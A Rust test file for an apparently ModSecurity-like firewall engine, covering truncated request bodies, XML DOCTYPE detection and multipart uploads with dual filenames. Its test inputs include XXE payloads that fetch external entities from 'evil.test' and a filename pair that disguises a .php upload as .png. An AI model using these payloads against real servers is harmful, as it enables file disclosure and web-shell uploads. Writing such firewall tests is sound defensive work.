//! What rules are told of a body that is cut, of one with a DOCTYPE, of files with two names, and of what nothing takes apart.

use super::*;

/// A POST whose body is seen up to here; what rules report.
fn cut(rules: &Arc<RuleSet>, kind: &str, body: &[u8]) -> Vec<u32> {
    let bound = Arc::new(Bound::new(rules, &Overlay::default()));
    let mut transaction = Transaction::bound(&bound, &connection(), false);
    transaction.request_line(b"POST", b"/", b"HTTP/1.1");
    transaction.request_header(b"Content-Type", kind.as_bytes());
    transaction.run_request_headers();
    transaction.run_request_body(body, true);
    transaction.finish().matches.iter().map(|found| found.id).collect()
}

#[test]
fn what_is_wrong_in_the_inspected_part_of_a_body_is_an_error_and_that_it_is_cut_is_none() {
    let rules = rules(
        r#"SecRule REQBODY_ERROR "!@eq 0" "id:1,phase:2,pass"
        SecRule REQBODY_PROCESSOR_ERROR "!@eq 0" "id:2,phase:2,pass"
        SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:3,phase:2,pass"
        SecRule URLENCODED_ERROR "!@eq 0" "id:4,phase:2,pass"
        SecRule INBOUND_DATA_ERROR "@eq 1" "id:5,phase:2,pass""#,
    );
    let multipart = "multipart/form-data; boundary=x";
    let form = "application/x-www-form-urlencoded";
    for (kind, body, ids) in [
        ("application/json", r#"{"a": "b"#, &[5][..]),
        ("application/json", r#"{"a" "b"#, &[1, 2, 5]),
        ("text/xml", "<a><b>x</b", &[5]),
        ("text/xml", "<a><b>x</a><", &[1, 2, 5]),
        (multipart, "--x\r\nContent-Disposition: form-da", &[5]),
        (
            multipart,
            "--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb",
            &[5],
        ),
        (multipart, "--x\r\nContent-Disposition\r\n\r\nb", &[1, 2, 3, 5]),
        (
            multipart,
            "before\r\n--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb",
            &[3, 5],
        ),
        (form, "a=%4", &[5]),
        (form, "a=%", &[5]),
        (form, "a=%zz&b=%4", &[4, 5]),
    ] {
        assert_eq!(cut(&rules, kind, body.as_bytes()), ids, "{body}");
    }
}

#[test]
fn a_doctype_is_shown_to_rules_and_one_that_adds_to_the_document_is_an_error() {
    let rules = rules(
        r#"SecRule REQBODY_PROCESSOR_ERROR "!@eq 0" "id:1,phase:2,pass"
        SecRule REQUEST_BODY "@contains <!DOCTYPE" "id:2,phase:2,pass""#,
    );
    let post = |body| {
        send_with(
            &rules,
            &Overlay::default(),
            false,
            "/",
            &[("Content-Type", "text/xml")],
            body,
        )
        .ids()
    };
    assert_eq!(post("<a/>"), [0_u32; 0]);
    assert_eq!(post("<!DOCTYPE a><a/>"), [2]);
    assert_eq!(post("<!DOCTYPE a SYSTEM \"http://evil.test/x.dtd\"><a/>"), [1, 2]);
    assert_eq!(
        post("<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.test/x\"> %x;]><a/>"),
        [1, 2]
    );
}

#[test]
fn rules_see_both_names_of_a_file() {
    let rules = rules(
        r#"SecRule FILES "@endsWith .php" "id:1,phase:2,pass"
        SecRule FILES "@endsWith .png" "id:2,phase:2,pass"
        SecRule MULTIPART_FILENAME "@endsWith .php" "id:3,phase:2,pass"
        SecRule &FILES "@eq 2" "id:4,phase:2,pass"
        SecRule FILES_NAMES "@streq f" "id:5,phase:2,pass"
        SecRule FILES_COMBINED_SIZE "@eq 5" "id:6,phase:2,pass"
        SecRule REQBODY_ERROR "!@eq 0" "id:7,phase:2,pass"
        SecRule MULTIPART_INVALID_PART "!@eq 0" "id:8,phase:2,pass"
        SecRule ARGS "@streq hello" "id:9,phase:2,pass""#,
    );
    let post = |parameters: &str| {
        let body = format!("--x\r\nContent-Disposition: form-data; name=\"f\"; {parameters}\r\n\r\nhello\r\n--x--\r\n");
        let head = [("Content-Type", "multipart/form-data; boundary=x")];
        send_with(&rules, &Overlay::default(), false, "/", &head, &body).ids()
    };
    let both = "filename=\"a.png\"; filename*=UTF-8''a%2Ephp";
    assert_eq!(post(both), [1, 2, 3, 4, 5, 6]);
    assert_eq!(post("filename=\"a.png\""), [2, 5, 6]);
    // An origin that does not know the only name has a field here.
    assert_eq!(post("filename*=UTF-8''a.php"), [1, 3, 5, 7, 9]);
    assert_eq!(post("filename=\"a.png\"; filename*=UTF-8''a%2"), [2, 5, 6, 7, 8]);
}

#[test]
fn a_body_that_nothing_takes_apart_is_shown_whole() {
    let rules = rules("SecRule REQUEST_BODY \"@streq a=evil\" \"id:1,phase:2,deny\"");
    let post = |head: &[(&str, &str)]| send_with(&rules, &Overlay::default(), false, "/", head, "a=evil").ids();
    for kind in [
        "text/plain",
        "application/octet-stream",
        "text/csv",
        "application/x-ndjson",
        "image/svg+xml",
        "x",
    ] {
        assert_eq!(post(&[("Content-Type", kind)]), [1], "{kind}");
    }
    assert_eq!(post(&[]), [1]);
    assert_eq!(post(&[("Content-Type", "text/xml")]).len(), 1);
    let cut = cut(&rules, "text/plain", b"a=evil");
    assert_eq!(cut, [1]);
}
